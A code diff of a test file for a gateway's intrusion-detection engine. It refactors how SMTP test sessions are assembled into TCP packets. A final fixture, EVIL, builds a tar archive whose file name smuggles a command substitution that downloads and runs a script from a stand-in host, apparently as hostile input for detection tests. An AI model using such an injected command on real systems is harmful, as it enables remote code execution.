@@ -12,7 +12,7 @@ from gateway.ids.model import RuleError
 from gateway.ids.rules import parse_rule
 from gateway.pipeline import Verdict
 
-from .conftest import handshake, tcp
+from .conftest import tcp_conversation
 from .test_ids_engine import _hs_cache, alerts, inspector, run  # noqa: F401 - _hs_cache: a per-test cache
 
 CLIENT, SERVER = "198.18.0.10", "10.10.0.25"
@@ -66,21 +66,8 @@ def session(cport: int, body: bytes, data_reply: bytes = b"354 go\r\n", segment:
         talk += [(wire[i:i + segment], True) for i in range(0, len(wire), segment)]
         talk += [(b"250 queued\r\n", False)]
     talk += [(b"QUIT\r\n", True), (b"221 bye\r\n", False)]
-    pkts = [d for d, _ in handshake(CLIENT, SERVER, cport, 25)]
-    cseq, sseq = 1001, 5001
-    for payload, from_client in talk:
-        if from_client:
-            pkts.append(tcp(CLIENT, SERVER, cport, 25, "PA", cseq, sseq, payload))
-            cseq += len(payload)
-        else:
-            pkts.append(tcp(SERVER, CLIENT, 25, cport, "PA", sseq, cseq, payload))
-            sseq += len(payload)
-        # the peer's ACK, as real stacks send it (Suricata-like timing: the mail is answered, then ACKed)
-        if from_client:
-            pkts.append(tcp(SERVER, CLIENT, 25, cport, "A", sseq, cseq))
-        else:
-            pkts.append(tcp(CLIENT, SERVER, cport, 25, "A", cseq, sseq))
-    return pkts
+    # each segment ACKed by the peer, as real stacks do (Suricata-like timing: the mail is answered, then ACKed)
+    return tcp_conversation(talk, CLIENT, SERVER, cport, 25, acks=True)
 
 
 EVIL = tar_of("logs/a.txt", "'`curl 198.18.0.99/x|sh`'.txt")
